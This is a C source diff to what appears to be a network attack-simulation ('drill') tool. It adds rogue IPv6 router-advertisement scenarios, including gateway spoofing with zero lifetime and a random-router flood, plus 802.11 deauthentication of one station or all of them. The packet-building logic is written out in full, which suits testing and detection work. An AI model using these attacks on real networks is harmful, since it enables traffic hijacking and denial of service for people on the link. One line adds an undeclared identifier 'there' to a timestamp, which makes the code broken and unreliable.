@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
-/* arp-spoof, dhcp-attack and mac-flood: attacks on a link by somebody who is on it. */
+/* arp-spoof, dhcp-attack, mac-flood, rogue-ra and wifi-deauth: attacks on a link by somebody who is on it. */
 #include "drill/drill.h"
 
 #include <string.h>
@@ -153,6 +153,67 @@ static void flood(struct ntt_drill *drill)
     }
 }
 
+/* The address of the same card that is valid on its link alone, as routers have to use it. */
+static struct ntt_host link_local(const struct ntt_host *host)
+{
+    struct ntt_host local = {.ipv6 = true, .address = {0xfe, 0x80}};
+    memcpy(local.address + 8, host->address + 8, 8);
+    memcpy(local.link, host->link, sizeof local.link);
+    return local;
+}
+
+/* A router that advertises itself, and from the fifth time on the source too: in its own name with another prefix and a
+ * higher preference, or in the router's, that this one is going. */
+static void advertise(struct ntt_drill *drill)
+{
+    enum { ALONE = 4, LIFETIME = 1800 };
+    bool spoofed = ntt_drill_is(drill, "spoofed");
+    const struct ntt_host gateway = ntt_drill_neighbour(drill, GATEWAY), router = link_local(&gateway);
+    struct ntt_host rogue = link_local(&drill->source);
+    struct ntt_advertisement own = {.lifetime = LIFETIME}, other = {0};
+    memcpy(own.prefix, drill->target.address, sizeof own.prefix);
+    if (spoofed) {
+        other = (struct ntt_advertisement){.lifetime = 0};
+        memcpy(other.prefix, own.prefix, sizeof other.prefix);
+        memcpy(rogue.address, router.address, sizeof rogue.address);
+    } else {
+        other = (struct ntt_advertisement){true, LIFETIME, {0x20, 0x01, 0x0d, 0xb8, 0x66, 0x66}};
+    }
+    for (unsigned i = 0; ntt_drill_goes_on(drill, i); i++) {
+        ntt_craft_advertisement(drill->craft, ntt_drill_at(drill, i), &router, &own);
+        if (i >= ALONE)
+            ntt_craft_advertisement(drill->craft, ntt_drill_at(drill, i) + NTT_SECOND, &rogue, &other);
+    }
+}
+
+/* Each advertisement of another router with another prefix, as from flood_router26. */
+static void flood_routers(struct ntt_drill *drill)
+{
+    for (unsigned i = 0; ntt_drill_goes_on(drill, i); i++) {
+        struct ntt_host router = {.ipv6 = true, .address = {0xfe, 0x80}, .link = {0x02}};
+        struct ntt_advertisement it = {true, UINT16_MAX, {0x20, 0x01, 0x0d, 0xb8}};
+        ntt_craft_random_bytes(drill->craft, router.address + 8, 8);
+        ntt_craft_random_bytes(drill->craft, router.link + 1, sizeof router.link - 1);
+        ntt_craft_random_bytes(drill->craft, it.prefix + 4, 4);
+        ntt_craft_advertisement(drill->craft, ntt_drill_at(drill, i), &router, &it);
+    }
+}
+
+/* Somebody cuts the target off in both directions, or everybody, in the name of the access point. */
+static void deauthenticate(struct ntt_drill *drill)
+{
+    static const uint8_t everybody[NTT_LINK_LENGTH] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
+    const struct ntt_host access_point = ntt_drill_neighbour(drill, GATEWAY);
+    const uint8_t *network = access_point.link, *station = drill->target.link;
+    bool all = ntt_drill_is(drill, "network");
+    for (unsigned i = 0; ntt_drill_goes_on(drill, i); i++) {
+        int64_t at = ntt_drill_at(drill, i);
+        ntt_craft_deauthentication(drill->craft, at, network, all ? everybody : station, network);
+        if (!all)
+            ntt_craft_deauthentication(drill->craft, at + there, station, network, network);
+    }
+}
+
 const struct ntt_scenario ntt_drill_links[] = {
     {"arp-spoof", "arp", "ARP tells two hosts that the source is the other one", NTT_FOR_IPV4, 10, 1, spoof},
     {"arp-spoof", "nd", "neighbour discovery tells two hosts the same", NTT_FOR_IPV6, 10, 1, spoof},
@@ -162,5 +223,12 @@ const struct ntt_scenario ntt_drill_links[] = {
      20, starve},
     {"mac-flood", "random", "frames between random link addresses, as from macof", NTT_FOR_BOTH, 6, 500,
      flood},
+    {"rogue-ra", "rogue", "a second IPv6 router with another prefix that wants to be preferred", NTT_FOR_IPV6,
+     40, 0.2, advertise},
+    {"rogue-ra", "spoofed", "advertisements in the name of the router that it is going", NTT_FOR_IPV6, 50,
+     0.2, advertise},
+    {"rogue-ra", "flood", "advertisements of random routers", NTT_FOR_IPV6, 3, 100, flood_routers},
+    {"wifi-deauth", "station", "802.11 frames that cut one station off", NTT_FOR_IPV4, 5, 20, deauthenticate},
+    {"wifi-deauth", "network", "the same to everybody", NTT_FOR_IPV4, 5, 20, deauthenticate},
     {0},
 };
